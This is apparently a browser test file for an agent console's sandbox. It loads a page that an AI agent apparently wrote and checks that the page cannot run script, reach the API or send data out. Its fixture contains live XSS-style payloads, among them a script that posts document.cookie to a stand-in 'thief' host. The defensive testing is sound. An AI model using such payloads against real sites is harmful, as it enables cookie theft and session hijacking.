// A page that an agent made to get at whoever looks at it.
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { barriers } from './browser.mjs';

/** What a page of an agent tries: to run, to read, to send, to ask, to leave. */
const EVIL = `<!doctype html><title>still</title><h1>A report</h1>
<style>h1 { color: rgb(1, 2, 3) }</style>
<script>document.title = 'ran'; fetch('ADDRESS/v1/me', { credentials: 'include' }); new Image().src = 'THIEF/stolen?' + document.cookie;</script>
<img src="ADDRESS/healthz?img" onerror="document.title = 'ran'"><link rel="stylesheet" href="THIEF/css"><img src="THIEF/seen">
<meta http-equiv="refresh" content="0;url=THIEF/left"><iframe src="ADDRESS/healthz?frame"></iframe>
<form id="f" action="ADDRESS/healthz?form" method="post"><button>send</button></form>`;

/** Looks at a page that wants out of its frame, and finds that nothing of it gets anywhere. */
export async function apart(context, { address, api, home, faults }) {
  const thief = await listener();
  await api('PUT', `${home}/files/report.html`, EVIL.replaceAll('ADDRESS', address).replaceAll('THIEF', thief.address));
  const page = await context.newPage();
  const answered = [];
  page.on('response', (answer) => answered.push(answer));
  await page.goto(`${address}/#/agents/${home.split('/').at(-1)}/files/report.html`);
  await page.getByRole('button', { name: 'As a page' }).click();
  const shown = page.frameLocator('iframe.elsewhere');
  await shown.getByRole('heading', { name: 'A report' }).waitFor();
  assert.equal(await shown.getByRole('heading').evaluate((one) => getComputedStyle(one).color), 'rgb(1, 2, 3)');
  for (const barrier of await barriers(page)) faults.push(`a page apart: ${barrier}`);
  const frame = page.frames().find((one) => one.url().includes('/page/'));
  const own = new URL(frame.url()).origin;
  assert.notEqual(own, new URL(address).origin);
  assert.equal(await frame.evaluate(() => self.origin), 'null', 'the page has an origin of nobody');
  assert.equal(await shown.getByRole('button', { name: 'send' }).click().then(() => frame.url().includes('/page/')), true);
  await page.waitForTimeout(500);
  const got = answered.filter((one) => one.frame() !== page.mainFrame() && !one.url().startsWith(`${own}/page/`));
  assert.deepEqual(got.map((one) => one.url()), [], 'the page got something');
  assert.deepEqual(thief.heard, [], 'the page told somebody');
  const answer = answered.find((one) => one.url().startsWith(`${own}/page/`));
  assert.equal(await answer.headerValue('set-cookie'), null);
  assert.match(await answer.headerValue('content-security-policy'), /^sandbox; default-src 'none'/);

  // It opens once.
  const again = await page.evaluate((url) => fetch(url, { mode: 'no-cors' }).then(() => 'asked', () => 'refused'), frame.url());
  assert.equal(again, 'refused', 'the policy of the console lets nothing be asked there');
  assert.equal((await fetch(frame.url())).status, 404);

  // Also when it is opened by itself.
  const { url } = await api('POST', `${home}/previews`, { path: 'report.html' });
  const alone = await context.newPage();
  const went = [];
  alone.on('response', (one) => went.push(one.url()));
  await alone.goto(url);
  await alone.waitForTimeout(500);
  assert.equal(await alone.title(), 'still');
  assert.deepEqual(went.filter((one) => one !== url && !one.endsWith('/favicon.ico')), []);
  assert.deepEqual(thief.heard, [], 'the page told somebody');
  await alone.close();
  await page.close();
  thief.close();
}

/** Somebody who waits for what the page sends. */
async function listener() {
  const heard = [];
  const server = createServer((asked, answer) => {
    heard.push(asked.url);
    answer.end();
  });
  await new Promise((listening) => server.listen(0, '127.0.0.1', listening));
  return { heard, address: `http://127.0.0.1:${server.address().port}`, close: () => server.close() };
}
